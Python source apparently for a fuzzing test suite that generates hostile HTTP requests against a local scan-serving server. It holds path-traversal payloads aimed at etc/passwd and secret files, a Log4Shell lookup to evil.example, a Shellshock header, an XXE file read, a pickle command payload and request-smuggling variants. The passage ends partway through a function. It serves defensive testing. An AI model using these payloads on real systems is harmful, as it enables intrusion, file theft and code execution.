"""Hostile requests, each made from a number.

Each holds the bytes for one connection, and the methods whose answers are allowed at most.
"""

import base64
import gzip
import json
import random
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass, replace
from typing import Final, TypeVar

__all__ = ["IMAGE_KEYS", "KINDS", "Attack", "Target", "attack"]

T = TypeVar("T")
Send = bytes | float
BODY_BYTES: Final = 4 << 20
CRLF: Final = b"\r\n"


@dataclass(frozen=True, slots=True)
class Attack:
    """The bytes that are sent over one connection.

    Attributes
    ----------
    sends
        Bytes to send, and seconds to wait in between.
    methods
        Methods of the requests that may be answered at most.
    may_be_silent
        Whether the bytes are no complete request, so that the server may close without an answer.
    """

    number: int
    kind: str
    said: str
    sends: tuple[Send, ...]
    methods: tuple[str, ...] = ("GET",)
    may_be_silent: bool = False


@dataclass(frozen=True, slots=True)
class Target:
    """Names that a server serves, for requests that are nearly valid."""

    store: str
    keys: tuple[str, ...]
    scans: Mapping[str, str]
    """Ids and versions of the scans."""
    outside: str
    """Folder of files that must not be served."""


IMAGE_KEYS: Final = (
    "zarr.json", "0/zarr.json", "0/c/0/0/0", "1/c/0/0/0", "1/zarr.json", "labels/zarr.json",
    "labels/vertebrae/zarr.json", "labels/vertebrae/0/c/0/0/0", "labels/vertebrae/1/c/0/0/0",
    "9/c/0/0/0",
)  # fmt: skip
"""Keys of a scan as an OME-Zarr image."""
_DRAWN: Final = (
    "/", "/scan/{store}/{scan}", "/page/page.css", "/page/niivue.js",
    "/neuroglancer/{store}/{scan}", "/neuroglancer/{store}/{scan}/segments/label/info",
    "/v1/{store}/statistics",
    *(
        f"/v1/{{store}}/scans/{{scan}}/{name}"
        for name in ("view", "slice.png", "slice.png", "levels/0", "levels/1", "levels/9",
            "open-in", "image.nii.gz", "label.nii.gz")
    ),
)  # fmt: skip
_ASKED: Final[Mapping[str, Sequence[str]]] = {
    "plane": ("sagittal", "axial", "oblique", "", "../..", "%00", "0"),
    "mm": ("0", "nan", "inf", "-1e999", "1e-320", "9" * 400, "", "0x1", "1,2"),
    "window": ("bone", "lung", "-160,240", "240,-160", "0,0", "nan,nan", "inf,-inf", "1", ",",
        "a,b", "1e999,2", "0,5e-324", "-1e308,1e308", "x" * 9000),
    "labels": ("true", "false", "L1", "L1,L1", "L99", "", ",", "l1", "L1%00", "sacrum," * 500),
    "size_px": ("1", "0", "-1", "2048", "2049", "1e9", "9" * 400, "1.5", "nan"),
    "array": ("image", "label", "none", "../image", "", "image,label"),
    "start_zyx": ("0,0,0", "-1,0,0", "0,0", "9,9,9,9", "nan,0,0", "4194304,0,0", "9" * 400, ",,"),
    "size_zyx": ("1,1,1", "0,0,0", "64,64,64", "4194304,4194304,4194304", "-1,1,1", "1", "1.5,1,1"),
    "content_checksum": ("", "0" * 32, "*", "..", "%00", "a" * 5000),
    "split": ("train", "%00", "x" * 5000), "other": ("1",),
}  # fmt: skip
"""Valid and invalid queries for these paths."""


class Draw:
    """Draws the parts of a request."""

    def __init__(self, number: int, target: Target) -> None:
        self.number = number
        self.target = target
        self.random = random.Random(number)  # noqa: S311  no secret

    def one(self, values: Sequence[T]) -> T:
        return self.random.choice(values)

    def some(self, values: Sequence[T], most: int) -> list[T]:
        return [self.one(values) for _ in range(self.random.randint(1, most))]

    def chance(self, share: float) -> bool:
        return self.random.random() < share

    def key(self) -> str:
        return self.one(self.target.keys)

    def path(self) -> str:
        """Return a path that is served."""
        tree = self.one(["zarr", "zarr", "flat", "ome"])
        if tree != "ome":
            return f"/{tree}/{self.target.store}/{self.key()}"
        image = f"{self.one(['', '', 'itk/'])}{self.scan()}.ome.zarr"
        return f"/ome/{self.target.store}/{image}/{self.one(IMAGE_KEYS)}"

    def drawn_path(self) -> str:
        """Return a path of a page or picture for people."""
        store, scan = self.target.store, self.scan()
        return self.one([path.format(store=store, scan=scan) for path in _DRAWN])

    def batch_path(self) -> str:
        return f"/v1/{self.target.store}/batch"

    def scan(self) -> str:
        return self.one(list(self.target.scans))

    def junk(self, size: int) -> bytes:
        return self.random.randbytes(size)


def request(
    target: str | bytes,
    *headers: bytes,
    method: str = "GET",
    body: bytes = b"",
    host: bytes = b"localhost",
    version: bytes = b"HTTP/1.1",
    last: bool = True,
) -> bytes:
    """Write a request; the last one on a connection asks to close it."""
    where = target.encode("utf-8", "surrogateescape") if isinstance(target, str) else target
    lines = [method.encode() + b" " + where + b" " + version, b"Host: " + host, *headers]
    if last:
        lines.append(b"Connection: close")
    if body and not any(h.lower().startswith((b"content-length", b"transfer-")) for h in headers):
        lines.append(b"Content-Length: %d" % len(body))
    return CRLF.join(lines) + CRLF * 2 + body


# Paths

_DOTS: Final = (
    "..", ".", "%2e%2e", "%2E%2e", ".%2e", "%2e.", "%252e%252e", "%25252e%25252e", "...", "....//",
    "..;",
    "%c0%ae%c0%ae", "%e0%80%ae%e0%80%ae", "%f0%80%80%ae%f0%80%80%ae", "%c0%2e", "%uff0e%uff0e",
    "%u002e%u002e",
    "%ef%bc%8e%ef%bc%8e", "%e2%80%a5", "..%00", "..%09", "..%20", "%2e%2e%00", "..\\", "..%5c",
    "%2e%2e%5c",
    "..%01", "~", "~root", "*", "?", "..%0d%0a", "", " ", "%20", "%7f", "%ff", "%80", "%zz", "%",
    "%2",
)  # fmt: skip
_SLASHES: Final = (
    "/", "//", "///", "/./", "%2f", "%2F", "%252f", "%25252f", "\\", "%5c", "%255c", "%c0%af",
    "%e0%80%af", "%c1%9c",
    "%ef%bc%8f", "%e2%88%95", "/%00/", ";/", "/;x=1/", "%u2215", ":", "::$DATA/",
)  # fmt: skip
_ENDS: Final = (
    "%00", "%00.json", "\x00", "/", "/.", "/..", "//", "%20", ".", "..", "~", ".bak", ".swp", "?",
    "?/../x", "#", "#/../x",
    ";", ";.json", "%0d%0aX-Injected:%20injected", "%0aX-Injected:%20injected", "::$DATA", "%3f",
    "%23", "/zarr.json",
    "%e2%80%ae", "?" + "a" * 4000, "\\", "%5c..", ".gz", ".br", "/@", "%",
)  # fmt: skip
_OUTSIDE: Final = (
    "etc/passwd", "etc/shadow", "proc/self/environ", "proc/self/fd/0", "proc/self/root/etc/passwd",
    "dev/zero", "dev/null",
    "secret", "outside", "private.zarr/zarr.json", "private/zarr.json",
    "other/private.zarr/zarr.json", "tokens.txt",
    ".git/config", ".env", "ingest/zarr.json", "ingest.lock", "table/secret", "table/scan/secret",
    "scans/secret", "link", "fifo", "zero", "socket", "scans/link/zarr.json",
    "scans/fifo/zarr.json", "scans/zero/zarr.json",
    "scans/outside/zarr.json", "scans/passwd/zarr.json", "scans/folder/zarr.json",
    "scans/huge/zarr.json", "scans/socket/zarr.json",
    "scans/deep/zarr.json", "scans/lying/zarr.json", "scans/lying/image/c/0/0/0",
    "scans/lying/image/zarr.json",
)  # fmt: skip
_VERSIONS: Final = (
    "@", "@0", "@" + "0" * 32, "@" + "f" * 31, "@" + "f" * 33, "@" + "F" * 32, "@*", "@..",
    "@" + "\u0663" * 32, "@%00",
    "@" + "0" * 32 + "/..", "@" + "0" * 32 + "%2f..", "@" + "0" * 4000, "@@", "%40" + "0" * 32,
)  # fmt: skip
_SCANS: Final = (
    "..", ".", "", "con", "nul", "a" * 255, "a" * 4096, "%F0%9F%92%80", "%e2%80%ae", "-1", "*",
    "[a-z]", "{a,b}", "liver_0%00",
    "LIVER_0", "liver_0.", "liver_0 ", "liver_0%20", "..%2f..%2foutside", "@", "zarr.json", "%",
    "a%0ab", "é", "é",
)  # fmt: skip
_CHUNKS: Final = (
    "c", "c/", "c/0", "c/0/0", "c/0/0/0/0", "c/-1/0/0", "c/0/0/00", "c/+0/0/0", "c/0/0/1e1",
    "c/0/0/99999999999999999999",
    "c/0/0/9", "c.0.0.0", "c/0.0/0", "c/ 0/0/0", "c/\u0660/0/0", "c/0/0/0/zarr.json", "c/0/0/0/..",
    "c/./0/0/0", "C/0/0/0", "c//0/0/0",
    "c%2f0%2f0%2f0", "c/0/0/0%00", "c/" + "0/" * 500 + "0", "c/nan/0/0", "c/0x0/0/0", ".zarray",
    ".zattrs", ".zgroup", ".zmetadata",
)  # fmt: skip
_TREES: Final = (
    "zarr", "flat", "v1", "ZARR", "Flat", "zarr%2f", "%7aarr", "zarr;x", "static", "files", "s3",
    "healthz", "readyz", "metrics",
    "docs", "openapi.json", "signed", "login", "view", "ome", "page", "scan", "neuroglancer", "",
    ".", "..", "%2e%2e", "admin", "server-status", ".well-known/x",
)  # fmt: skip


_PLACES: Final = (
    "http://localhost", "http://evil.example", "https://localhost", "file://", "ftp://localhost",
    "//localhost", "//evil.example", "http://localhost@evil.example", "http:", "localhost:80",
    "http://[::1]", "data:,",
)  # fmt: skip


def _path(draw: Draw) -> Attack:  # noqa: C901  one branch a way
    store, target = draw.target.store, draw.target
    way = draw.random.randrange(12)
    steps = draw.one(_SLASHES).join([draw.one(_DOTS)] * draw.random.randint(1, 8))
    tree = f"/{draw.one(['zarr', 'flat'])}/{store}"
    outside = draw.one([*_OUTSIDE, f"{target.outside}/outside"[1:], f"{target.outside}/secret"[1:]])
    if way in {0, 1}:
        path = f"/{draw.one(['zarr', 'flat', 'v1'])}/{store}/{steps}{draw.one(_SLASHES)}{outside}"
    elif way == 2:
        path = (
            f"/{draw.one(_TREES)}/{draw.one([store, f'{store}.zarr', steps, outside])}/{draw.key()}"
        )
    elif way == 3:
        path = draw.path() + draw.one(_ENDS)
    elif way == 4:
        path = _encoded(draw, draw.path())
    elif way == 5:
        versions = [*_VERSIONS, *(f"@{version}" for version in target.scans.values())]
        path = f"{tree}/{draw.one(versions)}"
        path += draw.one(["/", "//", "%2f", "/../", "/./", ""]) + draw.one(
            [draw.key(), outside, steps]
        )
    elif way == 6:
        path = f"{tree}/scans/{draw.one(_SCANS)}/{draw.one(['zarr.json', 'image/c/0/0/0'])}"
    elif way == 7:
        array = draw.one(
            ["image", "label", "x", "sampling/label_chunks", "none", "IMAGE", "image/..", ""]
        )
        path = f"{tree}/scans/{draw.scan()}/{array}/{draw.one(_CHUNKS)}"
    elif way == 8:
        path = f"{tree}/{outside}"
    elif way == 9:
        name = draw.one([store, steps, outside, "stores", _encoded(draw, store)])
        path = f"/v1/{name}/{draw.one(['scans', 'batch', 'patch'])}/"
        path += draw.one([*_SCANS, draw.scan(), steps])
    elif way == 10:
        place = draw.one(_PLACES)
        path = place + draw.path()
    else:
        unit = draw.one(["a", "../", "%2e%2e/", "/", "%00", "@", "%25", "c/0/", "é"])
        path = f"/zarr/{store}/" + unit * draw.random.randint(100, 40_000 // len(unit))
    if not draw.chance(0.1):
        path = path.replace(" ", "%20")
    method = draw.one(["GET", "GET", "GET", "HEAD", "OPTIONS"])
    sent = request(path.encode("utf-8", "surrogateescape"), method=method)
    return Attack(draw.number, "path", f"{method} {path[:200]}", (sent,), (method,))


def _encoded(draw: Draw, text: str) -> str:
    """Escape some characters, some of them twice."""

    def one(character: str) -> str:
        once = "".join(f"%{byte:02x}" for byte in character.encode())
        return draw.one([character, character, once, once.upper(), once.replace("%", "%25")])

    return "".join(map(one, text))


# Ranges and conditions

_RANGES: Final = (
    "bytes=0-0", "bytes=0-", "bytes=-1", "bytes=-0", "bytes=1-2", "bytes=0-99999999999999999999",
    "bytes=99999999999999999999-",
    "bytes=-99999999999999999999", "bytes=18446744073709551615-",
    "bytes=9223372036854775807-9223372036854775807",
    "bytes=-9223372036854775808", "bytes=0-9223372036854775807", "bytes=5-2", "bytes=", "bytes=-",
    "bytes=--1", "bytes=a-b", "bytes=0x0-0x1", "bytes=1",
    "bytes=1-2-3", "bytes=+1-2", "bytes=1.0-2", "bytes=1e1-", "bytes=0-0,", "bytes=,0-0", "bytes=,",
    "bytes=0-0,0-0", "bytes=0-1,3-4,6-7",
    "bytes=0-,0-", "bytes=-1,-2,-3", "bytes=5-2,0-0", "bytes=0-0, -1", "bytes = 0-1", "bytes:0-1",
    "bytes 0-1", "Bytes=0-1", "BYTES=0-1",
    "byte=0-1", "items=0-1", "seconds=0-1", "none", "", " ", "=", "0-1", "bytes", "bytes=0-1;q=1",
    "bytes=0 - 1", "bytes=\t0-1",
    "bytes=0-1\t", "bytes=\x0b0-1", "bytes=00000000000000000000-1", "bytes=0-00000000000000000001",
    "bytes=\u0660-\u0661", "bytes=0\u20131", "bytes=0-1\xa0",
    "bytes=%30-1", "bytes=0-1#", 'bytes="0-1"', "bytes=0-1 bytes=2-3", "bytes=bytes=0-1",
    "bytes=*-1", "bytes=*", "bytes=0-*", "bytes=NaN-",
    "bytes=true-", "bytes=-1-", "bytes=1--1", "bytes=- 1", "bytes=-1 ", "bytes=_1-2",
    "bytes=1_0-20", "bytes=0-1," * 1000, "bytes=" + "0-1," * 2000 + "2-3",
    "bytes=" + "1" * 10_000, "bytes=-" + "9" * 5000, "bytes=" + " " * 9000 + "0-1",
    "bytes=" + "-" * 5000, "x" * 20_000,
)  # fmt: skip
_TAGS: Final = (
    "*", '""', '"', '"x"', "x", 'W/"x"', 'w/"x"', 'W/ "x"', '"x", "y"', '"x" "y"', ",", ",,,,",
    '"x",', "W/", "W/*", "*, *", '"*"', '"\\""',
    '"a",' * 3000, '"' * 9000, "W/" * 4000, ", " * 4000 + "x", '"\xff"', '"é"',
    "Sun, 29 Nov 2026 06:41:56 GMT", "Thu, 01 Jan 1970 00:00:00 GMT",
    "0", "-1", "null", '"' + "a" * 20_000 + '"', '"x";q=1', "<x>", "(x)", '"\t"',
)  # fmt: skip


def _range(draw: Draw) -> Attack:
    asked = (
        _RANGES[draw.number // len(KINDS) % len(_RANGES)] if draw.chance(0.7) else draw.one(_RANGES)
    )
    if draw.chance(0.25):
        first = draw.random.randrange(4000)
        asked = draw.one([f"bytes={first}-{first + draw.random.randrange(900)}", f"bytes=-{first}"])
    headers = [b"Range: " + asked.encode()]
    if draw.chance(0.15):
        headers.append(b"Range: " + draw.one(_RANGES).encode())
    if draw.chance(0.3):
        headers.append(b"If-Range: " + draw.one(_TAGS).encode())
    method, path = draw.one(["GET", "GET", "GET", "HEAD"]), draw.path()
    sent = request(path, *headers, method=method)
    return Attack(draw.number, "range", f"{method} {path} {headers}"[:300], (sent,), (method,))


def _condition(draw: Draw) -> Attack:
    names = [
        b"If-Match",
        b"If-None-Match",
        b"If-Range",
        b"If-Modified-Since",
        b"If-Unmodified-Since",
    ]
    headers = [name + b": " + draw.one(_TAGS).encode() for name in draw.some(names, 3)]
    method, path = draw.one(["GET", "HEAD"]), draw.path()
    sent = request(path, *headers, method=method)
    return Attack(draw.number, "condition", f"{method} {path} {headers}"[:300], (sent,), (method,))


# Headers

_HEADERS: Final = (
    b"X", b"X:", b": x", b"X : x", b" X: x", b"\tX: x", b"X: a\r\n b", b"X: a\r\n\tb",
    b"X: a\nX-Injected: injected", b"X: a\rX-Injected: injected",
    b"X: a\x00b", b"X\x00: a", b"X: \x7f", b"X: \x01\x02\x03", b"X\xff: a", "X: é".encode(),
    b"X: \xff\xfe", b"X@: a", b"(X): a", b'"X": a', b"X: " + b"a" * 3000,
    b"X: " + b"a" * 70_000, b"X: " + b"a" * 500_000, b"X" * 70_000 + b": a",
    CRLF.join(b"X-%d: a" % n for n in range(60)), CRLF.join(b"X-%d: a" % n for n in range(120)),
    CRLF.join(b"X-%d: a" % n for n in range(5000)), CRLF.join([b"X: a"] * 90),
    CRLF.join([b"Cookie: a=b"] * 50),
    b"Host: localhost", b"Host: evil.example", b"Host:", b"host: localhost:1\r\nHOST: evil",
    b"Content-Length: 0", b"Content-Length: 0\r\nContent-Length: 0",
    b"Content-Length: -1", b"Content-Length: +0", b"Content-Length: 0x0", b"Content-Length: 1e1",
    b"Content-Length: 99999999999999999999999", b"Content-Length: 0, 0",
    b"Content-Length: ", b"Content-Length: \xd9\xa0", b"Content-Length: 0\x00",
    b"Transfer-Encoding: chunked", b"Transfer-Encoding: identity", b"Transfer-Encoding: gzip",
    b"Transfer-Encoding: chunked, chunked",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity", b"Transfer-Encoding: ",
    b"Transfer-Encoding: chunked\x0b", b"TE: trailers, deflate;q=0.5",
    b"Trailer: Content-Length", b"Expect: 100-continue", b"Expect: 200-ok", b"Expect: ",
    b"Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13",
    b"Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQAAP__",
    b"Upgrade: TLS/1.0\r\nConnection: Upgrade", b"Connection: Range, Host",
    b"Connection: keep-alive, close", b"Connection: \x00", b"Connection: " + b"a," * 5000,
    b"Keep-Alive: timeout=999999", b"Proxy-Connection: keep-alive", b"X-Forwarded-For: 127.0.0.1",
    b"X-Forwarded-Host: evil.example", b"X-Forwarded-Proto: https",
    b"Forwarded: for=127.0.0.1;host=evil.example",
    b"X-Original-URL: /etc/passwd", b"X-Rewrite-URL: /../../etc/passwd",
    b"X-HTTP-Method-Override: DELETE", b"X-HTTP-Method: PUT", b"X-Accel-Redirect: /etc/passwd",
    b"X-Sendfile: /etc/passwd", b"Destination: /etc/passwd", b"Depth: infinity",
    b"Accept-Encoding: gzip, br, zstd, *;q=0", b"Accept: " + b"*/*," * 3000,
    b"Accept-Language: ../../../etc/passwd",
    b"Content-Type: multipart/form-data; boundary=" + b"a" * 3000, b"Content-Encoding: gzip",
    b"Range: bytes=0-1\r\nRange: bytes=3-4",
    b"Origin: http://evil.example", b"Origin: null", b"Origin: http://localhost\x80",
    b"Origin: http://localhost.evil.example", b"Origin: http://127.0.0.1@evil.example",
    b"Origin: http://[::1].evil.example", b"Origin: localhost", b"Origin: ://localhost",
    b"Origin: http://localhost http://evil.example",
    b"Origin: http://localhost\r\nOrigin: http://evil.example", b"Origin: " + b"a" * 9000,
    b"Authorization: Bearer", b"Authorization: Bearer " + b"a" * 9000, b"Authorization: Basic !!!!",
    b"Authorization: Basic " + base64.b64encode(b"\xff:\xff"),
    b"Authorization: Basic " + base64.b64encode(b"a" * 5000), b"Authorization: Digest username=x",
    b"Authorization: Negotiate AAAA", b"Cookie: " + b"a=b; " * 1500, b"Cookie: session=\x00",
    b"Cookie: =", b"Referer: javascript:alert(1)", b"User-Agent: ${jndi:ldap://evil.example/x}",
    b"User-Agent: () { :; }; /bin/id", b"Via: 1.1 evil", b"Max-Forwards: 0", b"Date: x",
    b"If-Modified-Since: " + b"9" * 4000,
    b"Access-Control-Request-Method: DELETE\r\nOrigin: http://evil.example",
    b"Sec-Fetch-Site: cross-site", b"Early-Data: 1", b"HTTP2-Settings: x", b":path: /etc/passwd",
    b":authority: evil.example",
)  # fmt: skip
_HOSTS: Final = (
    b"", b" ", b"evil.example", b"localhost.evil.example", b"localhost@evil.example",
    b"evil.example#localhost", b"localhost:99999", b"localhost:-1", b"localhost:x", b"localhost/",
    b"localhost/../x",
    b"[::1]", b"[::1", b"::1", b"[::ffff:127.0.0.1]", b"127.1", b"2130706433", b"0", b"0.0.0.0",
    b"127.0.0.1.nip.io", b"LOCALHOST", b"localhost.", b".localhost", b"local\x00host",
    b"localhost,evil.example", b"localhost evil", b"\xff", b"a" * 9000, b"localhost\t",
    b"*", b"%6cocalhost", b"xn--localhost", "ⓛocalhost".encode(),
)  # fmt: skip


def _header(draw: Draw) -> Attack:
    path, host = draw.path(), b"localhost"
    method = draw.one(["GET", "GET", "HEAD", "OPTIONS", "POST"])
    if draw.chance(0.25):
        host, headers = draw.one(_HOSTS), []
    else:
        first = _HEADERS[draw.number // len(KINDS) % len(_HEADERS)]
        headers = [first, *(draw.some(_HEADERS, 2) if draw.chance(0.2) else [])]
    if method == "POST":
        path = draw.batch_path()
    sent = request(path, *headers, method=method, host=host)
    joined = b" ".join(headers).lower()
    # A length without the body, or an upgrade: the server may wait until the connection ends.
    vague = any(
        word in joined for word in (b"content-length", b"transfer-encoding", b"upgrade", b"expect")
    )
    said = f"{method} {path} host {host!r} {headers}"[:300]
    return Attack(draw.number, "header", said, (sent,), (method,), may_be_silent=vague)


# Bodies


def _items(draw: Draw, count: int) -> list[dict[str, object]]:
    ids = [*draw.target.scans, "none", "../../outside", "a" * 255, "", "\x00", "é", "zarr.json"]
    return [
        {"scan_id": draw.one(ids), "start_zyx": [draw.random.randint(-90, 90) for _ in range(3)]}
        for _ in range(count)
    ]


_VALUES: Final = (
    "null", "true", "false", "0", "-0", "1", "-1", "1.5", "1e999", "-1e999", "NaN", "Infinity",
    "-Infinity", "1e400", "5e-324", "1" + "0" * 400, "9" * 5000, "9223372036854775808",
    "18446744073709551616", "2147483648", "4097", "1048577", '""', '"a"', '"NaN"',
    '"../../outside"', '"\\u0000"', '"\\ud800"', '"\\uDFFF\\uD800"', '"' + "a" * 70_000 + '"', "[]",
    "{}",
    "[[]]", "[0]", "[0,0]", "[0,0,0]", "[0,0,0,0]", "[1,1,1]", "[4096,4096,4096]", "[1e999,1,1]",
    "[null,null,null]", "[1e-320,1,1]", "[true,true,true]", '["1","1","1"]',
    "[1048576,1048576,1048576]", "[-1048576,-1048576,-1048576]",
    '{"$ref":"#"}', '{"__class__":"x"}', '{"__proto__":{}}', "[" * 90 + "]" * 90,
    "[" * 3000 + "]" * 3000, "0x1", "01", "1.", ".5", "+1", "'a'", "undefined", "0b1", "1_0",
    "\\u0031", "//", "/**/1", "1,", "[1,]", "{,}",
)  # fmt: skip
_FIELDS: Final = ("items", "size_zyx", "spacing_zyx_mm", "labels", "image_dtype", "flat_axis",
    "neighbors", "neighbor_step_mm", "nonfinite", "pack", "other", "__proto__", "")  # fmt: skip


def _json_body(draw: Draw) -> tuple[str, bytes]:  # noqa: PLR0911  one a way
    sound: dict[str, object] = {"items": _items(draw, 2), "size_zyx": [4, 5, 6]}
    way = draw.random.randrange(10)
    if way in {0, 1, 2, 3}:
        name, value = draw.one(_FIELDS), draw.one(_VALUES)
        fields = {key: json.dumps(text) for key, text in sound.items()} | {name: value}
        text = ",".join(f"{json.dumps(key)}:{value}" for key, value in fields.items())
        return f"{name} is {value[:60]}", b"{" + text.encode() + b"}"
    if way == 4:
        name, value = (
            draw.one(["scan_id", "start_zyx", "content_checksum", "mask_checksums", "other"]),
            draw.one(_VALUES),
        )
        item = {"scan_id": json.dumps(draw.scan()), "start_zyx": "[0,0,0]"} | {name: value}
        text = ",".join(f"{json.dumps(key)}:{value}" for key, value in item.items())
        return (
            f"{name} of an item is {value[:60]}",
            b'{"size_zyx":[1,1,1],"items":[{' + text.encode() + b"}]}",
        )
    if way == 5:
        sizes = draw.one(
            [(1, 1, 1), (4096, 1, 1), (64, 64, 64), (400, 400, 400), (4096, 4096, 4096)]
        )
        body: dict[str, object] = {
            "items": _items(draw, draw.one([0, 1, 40])), "size_zyx": sizes,
            "image_dtype": draw.one(["int16", "float64", "uint16"]),
            "neighbors": draw.one([0, 1, 64]), "flat_axis": draw.one([None, 0, 2]),
            "labels": draw.one([[], ["label"], ["label", "parts"]]),
            "pack": draw.one(["none", "lz4", "zstd"]),
            "spacing_zyx_mm": draw.one([(None,) * 3, (1e-9,) * 3, (1000.0,) * 3,
                (0.5, None, 1e-300)]),
        }  # fmt: skip
        return f"sizes {body['size_zyx']}", json.dumps(body).encode()
    if way == 6:
        return "many items", json.dumps(
            {"items": _items(draw, draw.one([500, 8192, 8193, 20_000])), "size_zyx": [1, 1, 1]}
        ).encode()
    if way == 7:
        text = draw.one(["[", "{", '{"a":', "[0,", '"a', "\\"]) * draw.one([1, 100, 100_000])
        return "nested without end", text.encode()
    plain = json.dumps(sound).encode()
    if way == 8:
        made: tuple[bytes, ...] = (
            b"", b" ", b"\xef\xbb\xbf" + plain, json.dumps(sound).encode("utf-16"),
            gzip.compress(plain), plain + plain, plain[:-1], plain + b"\x00", b"\x00" + plain,
            b"\xff\xfe\xfd", draw.junk(2000), b"items=1&size_zyx=2",
            b"--a\r\nContent-Disposition: form-data\r\n\r\nx\r\n--a--",
            b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
            b"\x80\x04\x95cposix\nsystem\n(S'id'\ntR.",
            plain.replace(b"{", b'{"items":[],"items":[],', 1), b"{}" * 5000,
        )  # fmt: skip
        body_bytes = draw.one(made)
        return f"no such JSON {body_bytes[:30]!r}", body_bytes
    size = draw.one([BODY_BYTES - 1, BODY_BYTES, BODY_BYTES + 1])
    return f"{size} bytes", plain.ljust(size)


def _body(draw: Draw) -> Attack:
    said, body = _json_body(draw)
    headers = [
        b"Content-Type: "
        + draw.one([b"application/json"] * 4 + [b"text/plain", b"application/x-pickle", b"\xff"])
    ]
    way = draw.one(["whole", "whole", "whole", "chunked", "lie", "lie", "slow", "length"])
    silent = False
    if way == "whole":
        sends: tuple[Send, ...] = (request(draw.batch_path(), *headers, method="POST", body=body),)
    elif way == "length":
        length = draw.one(
            [0, 1, max(len(body) - 1, 0), len(body) + 1, 1 << 31, 1 << 62, (1 << 64) - 1]
        )
        head = request(draw.batch_path(), *headers, b"Content-Length: %d" % length, method="POST")
        sends, silent = (head, body), True
        said += f", said to be of {length} bytes"
    elif way == "slow":
        cuts = [
            body[at : at + max(len(body) // 5, 1)]
            for at in range(0, min(len(body), 4000), max(len(body) // 5, 1))
        ]
        head = request(
            draw.batch_path(), b"Content-Length: %d" % sum(map(len, cuts)), *headers, method="POST"
        )
        sends = (head, *(part for cut in cuts for part in (0.02, cut)))
    else:
        head = request(draw.batch_path(), *headers, b"Transfer-Encoding: chunked", method="POST")
        chunks = _chunks(draw, body[:200_000], lies=way == "lie")
        sends, silent = (head, *chunks), way == "lie"
    return Attack(
        draw.number,
        "body",
        f"{way}: {said}",
        sends,
        ("POST",),
        may_be_silent=silent or len(body) > BODY_BYTES,
    )


def _chunks(draw: Draw, body: bytes, *, lies: bool) -> list[bytes]:
    step = draw.one([1, 7, 1000, 65_536]) if len(body) < 2000 else 65_536
    whole = [
        b"%x\r\n" % len(part) + part + CRLF
        for part in (body[at : at + step] for at in range(0, len(body), step))
    ]
    end = b"0\r\n\r\n"
    if not lies:
        return [*whole, end]
    lie = draw.one([
        b"ffffffffffffffff\r\n", b"ffffffffffffffffffff\r\n", b"-1\r\n", b"+1\r\nx\r\n",
        b"0x1\r\nx\r\n", b"zz\r\n", b"\r\n", b"1\r\nxy\r\n", b"5\r\nx\r\n",
        b"1;" + b"a" * 70_000 + b"\r\nx\r\n",
        b'1;a="\r\n"\r\nx\r\n', b"1\nx\n", b" 1\r\nx\r\n", b"1 \r\nx\r\n", b"1\r\nx", b"\x00\r\n",
        b"0\r\nX-Injected: injected\r\n\r\n", b"0\r\nContent-Length: 99\r\n\r\n",
        b"0\r\n" + b"X: a\r\n" * 2000 + b"\r\n", b"0\r\n" + b"a" * 100_000, b"1_0\r\n", b"",
        b"7fffffffffffffff\r\n" + b"a" * 70_000,
    ])  # fmt: skip
    return [*whole, lie, *([end] if draw.chance(0.5) else [])]


# Requests in requests

_CODINGS: Final = (
    b"Transfer-Encoding: chunked", b"Transfer-Encoding: xchunked", b"Transfer-Encoding : chunked",
    b"Transfer-Encoding:\tchunked", b"Transfer-Encoding:chunked", b"Transfer-Encoding: \x0bchunked",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
    b"Transfer-Encoding: x\r\nTransfer-Encoding: chunked", b"Transfer-Encoding: chunked, identity",
    b"Transfer-Encoding: identity, chunked", b"transfer-encoding: CHUNKED",
    b" Transfer-Encoding: chunked", b"X: x\nTransfer-Encoding: chunked",
    b"Transfer-Encoding\r\n : chunked",
    b"Transfer-Encoding: 'chunked'", b'Transfer-Encoding: "chunked"',
    b"Transfer-Encoding: chunked;q=1", b"Transfer-Encoding:\r\n chunked",
    b"Transfer_Encoding: chunked", b"Transfer-Encoding: chunk", b"Transfer-Encoding: \xffchunked",
    b"Content-Encoding: chunked",
)  # fmt: skip


def _smuggled(draw: Draw) -> Attack:
    inner = request(
        draw.one([draw.path(), "/healthz", draw.batch_path()]), method=draw.one(["GET", "DELETE"])
    )
    way = draw.one(["CL.TE", "TE.CL", "CL.CL", "pipelined", "with a body", "chunked twice"])
    post, coding = {"method": "POST", "last": False}, draw.one(_CODINGS)
    path = draw.one([draw.batch_path(), draw.path(), "/healthz"])
    if way == "CL.TE":
        body = b"0\r\n\r\n"
        length = draw.one([len(body), len(body) + len(inner), 0, 4])
        sent = request(path, b"Content-Length: %d" % length, coding, **post) + body + inner
    elif way == "TE.CL":
        body = b"%x\r\n" % len(inner) + inner + b"\r\n0\r\n\r\n"
        sent = (
            request(path, coding, b"Content-Length: %d" % draw.one([0, 4, len(body)]), **post)
            + body
        )
    elif way == "CL.CL":
        lengths = draw.one([(0, len(inner)), (len(inner), 0), (0, 0), (5, 6)])
        headers = [b"Content-Length: %d" % length for length in lengths]
        sent = request(path, *headers, **post) + inner
    elif way == "chunked twice":
        body = draw.one(
            [
                b"0\r\n\r\n0\r\n\r\n",
                b"0\r\n\r\n\r\n\r\n",
                b"0\r\n\r\nx",
                b"1\r\nx\r\n0\r\n\r\n1\r\nx\r\n0\r\n\r\n",
            ]
        )
        sent = request(path, b"Transfer-Encoding: chunked", **post) + body + inner
    elif way == "with a body":
        method = draw.one(["GET", "HEAD", "OPTIONS", "DELETE"])
        sent = request(path, b"Content-Length: %d" % len(inner), method=method) + inner
        return Attack(draw.number, "smuggled", f"{way} {method} {path}", (sent,), (method,))
    else:
        methods = draw.some(["GET", "HEAD", "OPTIONS", "POST"], 30)
        parts = [request(draw.path(), method=method, last=False) for method in methods]
        sent = b"".join([*parts, request("/healthz")])
        return Attack(draw.number, "smuggled", f"{len(parts)} {way}", (sent,), (*methods, "GET"))
    said = f"{way} {coding!r} {path}"
    # A second request may follow a body of length 0; only a body with two lengths is ambiguous.
